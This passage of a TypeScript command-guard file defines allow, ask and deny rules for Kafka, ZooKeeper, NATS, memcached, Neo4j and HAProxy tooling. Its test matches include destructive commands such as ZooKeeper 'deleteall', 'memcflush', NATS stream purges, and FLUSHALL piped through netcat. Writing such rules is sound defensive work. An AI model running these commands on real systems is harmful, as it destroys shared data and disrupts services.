    "kafka-broker-api-versions",
    "kafka-broker-api-versions.sh",
    "kafka-server-start",
    "kafka-server-start.sh",
    "kafka-server-stop",
    "kafka-server-stop.sh",
    "zookeeper-server-start",
    "zookeeper-server-start.sh",
    "zookeeper-server-stop",
    "zookeeper-server-stop.sh",
    "kcat",
    "kafkacat",
  ],
  about: "reads and writes messages, starts and stops brokers",
  options: `${kafkaConnection}; --topic=; --from-beginning; --max-messages=; --group=; --partition=; --offset=; --property=; --formatter=; --timeout-ms=; --describe; --files=; --print-data-log; -daemon; -C; -P; -L; -b=; -t=; -o=; -e; -f=; -p=; -c=; -q; -J; -G=; -K=; --producer.config=; --consumer.config=; --topic-list=; --override=`,
  nature: "lifecycle",
  allowed: [
    "kafka-console-consumer --bootstrap-server localhost:9092 --topic orders --from-beginning --max-messages 5",
    "kcat -L -b localhost:9092",
  ],
});

const zookeeper = defineTool({
  names: ["zookeeper-shell", "zookeeper-shell.sh", "zkCli.sh", "zkCli"],
  about: "ZooKeeper's client",
  style: "posix",
  options: "-server=; -timeout=; -r; -client-configuration=",
  nature: "update",
  rules: [
    {
      id: "zookeeper-delete",
      when: (i) => i.operands.some((word) => /^(deleteall|rmr|delete)\b/.test(word.text)),
      decision: "deny",
      why: "deletes nodes that services coordinate by",
      instead: "look at them: `zkCli.sh -server localhost:2181 ls /app`",
      attack: ["T1485"],
      matches: [
        "zkCli.sh -server localhost:2181 deleteall /app",
        "zookeeper-shell localhost:2181 rmr /app",
      ],
      nonMatches: [
        "zkCli.sh -server localhost:2181 ls /app",
        "zookeeper-shell localhost:2181 get /app",
      ],
      knownGaps: ["echo 'deleteall /app' | zkCli.sh -server localhost:2181"],
    },
  ],
  allowed: ["zkCli.sh -server localhost:2181 ls /"],
});

const nats = defineTool({
  names: ["nats"],
  about: "the NATS client",
  options:
    "-s --server=; --user=; --password=; --creds=; --nkey=; --tlscert=; --tlskey=; --tlsca=; --timeout=; --context=; --trace; -f --force; --config=; --seq=; --keep=; --subject=; --json -j; --stream=; --count=; --queue=; --command=; --raw -r; --all -a; --next; --ack; --filter=; --replicas=; --storage=; --retention=; --yes",
  verbs: {
    read: "stream ls, stream list, stream info, stream get, stream view, stream report, stream state, stream subjects, stream backup, consumer ls, consumer list, consumer info, consumer report, kv ls, kv get, kv status, kv history, kv watch, kv info, object ls, object get, object info, account info, account report, server, sub, subscribe, context ls, context list, context select, context show, rtt, events, latency, schema, cheat, errors, top, bench, consumer next, consumer sub, audit",
    update:
      "pub, publish, request, req, reply, stream add, stream create, stream edit, stream update, stream copy, consumer add, consumer create, consumer edit, consumer copy, kv put, kv add, kv create, kv update, object put, object add, context add, context save, context create, stream seal, consumer pause, consumer resume, object watch, micro, service",
    "remote-change":
      "stream restore, account restore, server raft step-down, stream cluster step-down, stream cluster peer-remove, consumer cluster step-down, server raft peer-remove",
    delete:
      "kv del, object del, object rm, context delete, context rm, consumer rm, consumer delete, stream rmm, kv delete, consumer del",
    destroy:
      "stream purge, stream rm, stream delete, stream del, kv purge, kv rm, object delete, object rmbucket, kv compact",
  },
  runs(i, run) {
    const command = i.value("--command");
    if (command !== undefined) run.shell(command, { conditional: true });
  },
  allowed: [
    "nats stream ls",
    "nats pub orders hello",
    "nats kv get config flag",
    "nats stream info ORDERS",
  ],
  asked: ["nats consumer rm ORDERS app -f", "nats kv del config flag"],
  denied: ["nats stream purge ORDERS -f", "nats stream rm ORDERS --force", "nats kv rm config"],
});

const memcached = defineTool({
  names: ["memcached", "memccat", "memcstat", "memcping", "memccp", "memcslap"],
  about: "memcached's server and its readers",
  options:
    "-p=; -m=; -u=; -l=; -d; -v; -vv; -c=; -t=; -s=; -U=; -S; --servers=; --port=; -h --help; -V --version; -I=; -o=; -P=",
  nature: "lifecycle",
  allowed: ["memcached -d -m 64 -p 11211", "memcstat --servers=localhost"],
});

const memcflush = defineTool({
  names: ["memcflush", "memcrm"],
  about: "empties memcached",
  options:
    "--servers=; --expire=; -q --quiet; -v --verbose; --debug; --binary; -h --help; -V --version",
  nature: "update",
  rules: [
    {
      id: "memcflush",
      when: (i) => i.program === "memcflush",
      decision: "deny",
      why: "throws away everything that the cache holds for everybody",
      instead: "look at it with `memcstat --servers=localhost`",
      attack: ["T1485"],
      matches: ["memcflush --servers=localhost", "memcflush --servers=cache-1,cache-2"],
      nonMatches: ["memcstat --servers=localhost", "memcrm --servers=localhost session:1"],
    },
  ],
  allowed: ["memcrm --servers=localhost session:1"],
});

const neo4j: readonly ToolRule[] = [
  {
    id: "neo4j-load",
    on: "database load, database restore, database copy, database import, load, restore",
    when: (i) =>
      i.command.args.some((word) => /^--(force|overwrite-destination)(=true)?$/.test(word.text)),
    decision: "deny",
    why: "replaces a database that exists",
    instead:
      "load it under a new name: `neo4j-admin database load app-restored --from-path=backup`",
    attack: ["T1485"],
    matches: [
      "neo4j-admin database load app --from-path=backup --overwrite-destination=true",
      "neo4j-admin restore --from=backup --database=app --force",
    ],
    nonMatches: [
      "neo4j-admin database load app-restored --from-path=backup",
      "neo4j-admin database dump app --to-path=backup",
    ],
  },
];

const neo4jAdmin = defineTool({
  names: ["neo4j-admin"],
  about: "administers a Neo4j server",
  options:
    "--from-path=; --to-path=; --overwrite-destination=?; --force; --database=; --from=; --to=; --verbose; --additional-config=; --nodes=; --relationships=; --stdout; --stdin",
  verbs: {
    read: "server report, server status, database check, database info, dbms info, check-consistency, memrec, report",
    create: "database dump, database backup, dump, backup",
    update:
      "database load, database restore, database copy, database import, load, restore, import, copy, database migrate, database aggregate-backup",
    access:
      "dbms set-initial-password, set-initial-password, dbms set-default-admin, set-default-admin",
    lifecycle: "server start, server stop, server restart, server console",
    "remote-change": "server unbind, dbms unbind-system-db, unbind",
  },
  rules: neo4j,
  allowed: ["neo4j-admin database dump app --to-path=backup"],
});

export const tools = [
  mongosh,
  mongodump,
  mongorestore,
  mongoServer,
  mongofiles,
  redisCli,
  redisServer,
  cqlsh,
  nodetool,
  influx,
  etcdctl,
  rabbitmqctl,
  rabbitmqadmin,
  kafkaTopics,
  kafkaGroups,
  kafkaOthers,
  kafkaStreams,
  zookeeper,
  nats,
  memcached,
  memcflush,
  neo4jAdmin,
];

export const rules = [
  commandRule({
    id: "text-protocol-flush",
    programs: ["nc", "ncat", "netcat", "telnet", "socat"],
    when: (command) => /^\s*(flush_all|flushall|flushdb)\b/im.test(command.stdin?.text ?? ""),
    decision: "deny",
    why: "tells a cache server by its plain text protocol to throw everything away",
    instead: "look at it with `memcstat --servers=localhost` or `redis-cli INFO keyspace`",
    attack: ["T1485"],
    matches: [
      "echo flush_all | nc localhost 11211",
      "printf 'FLUSHALL\\r\\n' | nc -w1 localhost 6379",
    ],
    nonMatches: ["echo stats | nc localhost 11211", "echo 'how to flush_all' | nc localhost 1234"],
  }),
  commandRule({
    id: "balancer-console",
    programs: ["nc", "ncat", "netcat", "socat"],
    when: (command) =>
      command.args.some(({ text }) => /(?:haproxy|admin|stats)[\w.-]*\.sock/.test(text)) &&
      /(?:^|[;\n])\s*(?:disable|enable|shutdown|set|clear|del|add|commit|abort)\s/im.test(
        command.stdin?.text ?? "",
      ),
    decision: "ask",
    why: "takes servers out of a load balancer, or ends the connections of people",
    instead: "look first: `echo 'show stat' | socat stdio /run/haproxy/admin.sock`",
    attack: ["T1489"],
    matches: [
      "echo 'disable server web/s1' | sudo socat stdio /run/haproxy/admin.sock",
      "echo 'set server web/s1 state maint' | socat - UNIX-CONNECT:/var/run/haproxy.sock",
    ],
    nonMatches: [
      "echo 'show stat' | sudo socat stdio /run/haproxy/admin.sock",
      "echo 'show info;show pools' | socat stdio /run/haproxy/admin.sock",
    ],
  }),
];
